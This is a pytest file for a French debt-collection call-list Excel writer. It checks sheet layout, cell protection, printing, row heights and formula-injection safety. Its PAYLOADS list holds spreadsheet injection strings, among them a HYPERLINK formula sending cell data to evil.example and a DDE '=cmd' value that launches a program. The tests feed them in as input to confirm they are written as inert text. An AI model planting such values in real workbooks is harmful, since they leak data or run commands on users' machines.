"""call_list.xlsx as written: sheets, headers, links, drop-downs, hidden key, and formula safety."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd

from relance_analytics.calllist import write_call_list
from relance_analytics.calllist.workbook import (
    FILL_COLUMNS,
    PHONE_SHEET_COLUMNS,
    SIDE_SHEETS,
    mail_url,
    phone_url,
    sheet_name,
)
from relance_analytics.io.excel import row_height, text_lines

from .helpers import actions, contacts, customers, disputes, items, run

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "=1+1", "+33 1 23", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _workbook(tmp_path: Path) -> Path:
    it = items(("C1", "FA1", "2026-11-10", 1000), ("C2", "FA2", "2026-11-05", 900), ("C3", "FA3", "2026-10-01", 800),
               ("C4", "FA4", "2026-09-01", 700))
    cust = customers(it, status={"C4": "liquidation"})
    cust["customer_name"] = cust["customer_name"].astype(object)
    cust.loc[cust["customer_id"] == "C1", "customer_name"] = PAYLOADS[0]
    it["customer_name"] = it["customer_name"].astype(object)
    it.loc[it["customer_id"] == "C1", "customer_name"] = PAYLOADS[0]
    cont = contacts(("C1", PAYLOADS[1], "accounting", "01 23 45 67 89", "compta@client.fr"),
                    ("C2", PAYLOADS[4], "accounting", PAYLOADS[3], PAYLOADS[5]))
    acts = actions(dict(date="2026-11-02", customer_id="C2", outcome="evasive", note=PAYLOADS[6]))
    disp = disputes(dict(customer_id="C3", document_id="FA3", amount=800, opened="2026-10-02", owner=PAYLOADS[2],
                         reason=PAYLOADS[7]))
    return write_call_list(tmp_path / "call_list.xlsx", run(it, acts, disp, cust=cust, cont=cont))


def test_sheets_headers_and_layout(tmp_path: Path):
    wb = openpyxl.load_workbook(_workbook(tmp_path))
    assert wb.sheetnames == ["Synthèse", "Claire Martin", "Relances par e-mail", *SIDE_SHEETS.values(), "Listes"]
    ws = wb["Claire Martin"]
    headers = [c.value for c in ws[1]]
    # identification, then the columns the collector fills (from D), then the row's details, the key last
    assert headers[:14] == ["Rang", "Code client", "Raison sociale", "Date de l'appel", "Résultat", "Code excuse",
                            "Montant promis", "Date promise", "Mode de règlement", "Date de rappel",
                            "Pièces concernées", "Interlocuteur joint", "Note", "Motifs"]
    assert headers[-1] == "Clé" and len(headers) == 38
    assert ws.freeze_panes == "D2" and ws.auto_filter.ref.startswith("A1:")
    deferred = [c.value for c in wb["Relances par e-mail"][1]]
    assert deferred[:5] == ["Recouvreur", "Rang", "Code client", "Raison sociale", "Date de l'appel"]
    assert deferred[14] == "Motif du report" and deferred[-1] == "Clé"
    assert wb["Relances par e-mail"].freeze_panes == "E2"
    key_letter = openpyxl.utils.get_column_letter(len(headers))
    assert ws.column_dimensions[key_letter].hidden
    assert wb["Listes"].sheet_state == "hidden"
    money = headers.index("Montant net dû") + 1
    assert "€" in ws.cell(2, money).number_format
    outcome_letter = openpyxl.utils.get_column_letter(headers.index("Résultat") + 1)
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"}
    assert lists[f"{outcome_letter}2:{outcome_letter}3"] == "Listes!$A$2:$A$11"      # the two rows of the list
    assert [c.value for c in wb["Listes"]["A"]][1:4] == ["promesse", "litige", "excuse"]


def test_phone_and_email_are_links_everything_else_is_text(tmp_path: Path):
    wb = openpyxl.load_workbook(_workbook(tmp_path))
    formulas = [(ws.title, cell.coordinate, cell.value) for ws in wb for row in ws.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []
    ws = wb["Claire Martin"]
    headers = {c.value: c.column for c in ws[1]}
    rows = {ws.cell(r, headers["Code client"]).value: r for r in range(2, ws.max_row + 1)}
    assert ws.cell(rows["C1"], headers["Raison sociale"]).value == PAYLOADS[0]
    assert ws.cell(rows["C1"], headers["Interlocuteur"]).value == PAYLOADS[1]
    phone = ws.cell(rows["C1"], headers["Téléphone"])
    assert (phone.value, phone.hyperlink.target) == ("01 23 45 67 89", "tel:+33123456789")
    mail = ws.cell(rows["C1"], headers["E-mail"])
    assert (mail.value, mail.hyperlink.target) == ("compta@client.fr", "mailto:compta@client.fr")
    # hostile phone / e-mail values: plain text, no link
    assert ws.cell(rows["C2"], headers["Téléphone"]).hyperlink is None
    assert ws.cell(rows["C2"], headers["E-mail"]).value == PAYLOADS[5]
    assert ws.cell(rows["C2"], headers["E-mail"]).hyperlink is None
    disputes_ws = wb["Litiges à résoudre"]
    assert PAYLOADS[2] in [c.value for c in disputes_ws[2]]


def test_url_and_sheet_name_helpers():
    assert phone_url("01 23 45 67 89") == "tel:+33123456789"
    assert phone_url("+32 2 123 45 67") == "tel:+3221234567"
    assert phone_url("=1+1") is None and phone_url(None) is None
    assert mail_url("a.b@c.fr") == "mailto:a.b@c.fr" and mail_url("=HYPERLINK(1)") is None
    taken: set[str] = set()
    assert sheet_name("Claire Martin", taken) == "Claire Martin"
    assert sheet_name("Claire Martin", taken) == "Claire Martin (2)"
    assert sheet_name("Synthèse", taken) == "Synthèse (2)"
    assert sheet_name("A/B:C*D?" + "x" * 40, taken) == ("A B C D " + "x" * 40)[:31]


def test_text_longer_than_a_cell_is_cut_visibly(tmp_path: Path):
    """Excel holds 32 767 characters per cell: a longer text ends with a visible marker (the
    shared writer's, tests/io/test_excel.py), and an address too long for a link is text."""
    it = items(("C1", "FA1", "2026-11-10", 1000))
    name = "Société " + "x" * 39_992                      # 40 000 characters
    it["customer_name"] = pd.array([name], dtype="string")
    cust = customers(it)
    cust["customer_name"] = pd.array([name], dtype="string")
    email = "a" * 2_100 + "@client.fr"                     # mailto: link beyond Excel's 2 079
    path = write_call_list(tmp_path / "call_list.xlsx",
                           run(it, cust=cust, cont=contacts(("C1", "M. Long", "accounting", None, email))))
    ws = openpyxl.load_workbook(path)["Claire Martin"]
    headers = {c.value: c.column for c in ws[1]}
    got = ws.cell(2, headers["Raison sociale"]).value
    # 32 767 − 47 (marker counting 40 000) = 32 720 kept; 40 000 − 32 720 = 7 280 cut
    assert got == name[:32_720] + "… [texte tronqué : 7\u202f280 caractères manquants]"
    assert len(got) == 32_766
    cell = ws.cell(2, headers["E-mail"])
    assert (cell.value, cell.hyperlink) == (email, None)
    assert mail_url(email) is None


def test_only_the_fill_cells_can_be_edited(tmp_path: Path):
    """The sheets with fill columns are protected without a password: every cell locked but the
    fill cells of the list's rows; filters, sorting, column widths and row heights allowed."""
    wb = openpyxl.load_workbook(_workbook(tmp_path))
    fill = {c.header for c in FILL_COLUMNS}
    for name in ("Claire Martin", "Relances par e-mail"):
        ws = wb[name]
        protection = ws.protection
        assert protection.sheet and not protection.password
        # openpyxl: True means "protected", False "allowed"
        assert (protection.autoFilter, protection.sort, protection.formatColumns, protection.formatRows) == \
            (False, False, False, False)
        assert protection.insertRows and protection.deleteColumns      # the layout the import reads stays
        headers = [c.value for c in ws[1]]
        for row in ws.iter_rows(min_row=1, max_row=ws.max_row):
            for cell in row:
                editable = cell.row > 1 and headers[cell.column - 1] in fill
                assert cell.protection.locked is not editable, (name, cell.coordinate, headers[cell.column - 1])
        key = headers.index("Clé") + 1
        assert all(ws.cell(r, key).protection.locked for r in range(2, ws.max_row + 1))
    for name in ("Synthèse", *SIDE_SHEETS.values()):
        assert not wb[name].protection.sheet, name


def test_every_sheet_prints_landscape_one_page_wide(tmp_path: Path):
    wb = openpyxl.load_workbook(_workbook(tmp_path))
    for ws in wb.worksheets:
        if ws.sheet_state == "hidden":
            continue
        setup = ws.page_setup
        fit = [1 if n is None else n for n in (setup.fitToWidth, setup.fitToHeight)]   # (1 is left out)
        tall = 1 if ws.title == "Synthèse" else 0                                      # 0: as many as needed
        assert (setup.orientation, setup.paperSize, fit) == ("landscape", 9, [1, tall]), ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.print_options.gridLines, ws.title
        assert "&A" in ws.oddFooter.left.text and "&P" in ws.oddFooter.right.text, ws.title
        if ws.title != "Synthèse":
            assert ws.print_title_rows == "$1:$1", ws.title


def test_rows_are_as_tall_as_their_wrapped_text(tmp_path: Path):
    """Each data row's height is that of its tallest wrapped cell (LibreOffice would print the
    extra lines over the next rows): estimated from the text and the column's width."""
    wb = openpyxl.load_workbook(_workbook(tmp_path))
    ws = wb["Claire Martin"]
    widths = {c.header: c.width for c in PHONE_SHEET_COLUMNS}
    headers = [c.value for c in ws[1]]
    assert ws.row_dimensions[1].height == max(row_height(text_lines(h, widths[h], bold=True)) for h in headers)
    for r in range(2, ws.max_row + 1):
        lines = max(text_lines(str(ws.cell(r, j + 1).value), widths[h]) for j, h in enumerate(headers)
                    if ws.cell(r, j + 1).value is not None and isinstance(ws.cell(r, j + 1).value, str)
                    and (ws.cell(r, j + 1).alignment.wrap_text or ws.cell(r, j + 1).hyperlink))
        got = ws.row_dimensions[r].height
        assert got == (row_height(lines) if lines > 1 else None), (r, got, lines)
    assert any(ws.row_dimensions[r].height for r in range(2, ws.max_row + 1))   # some rows wrap
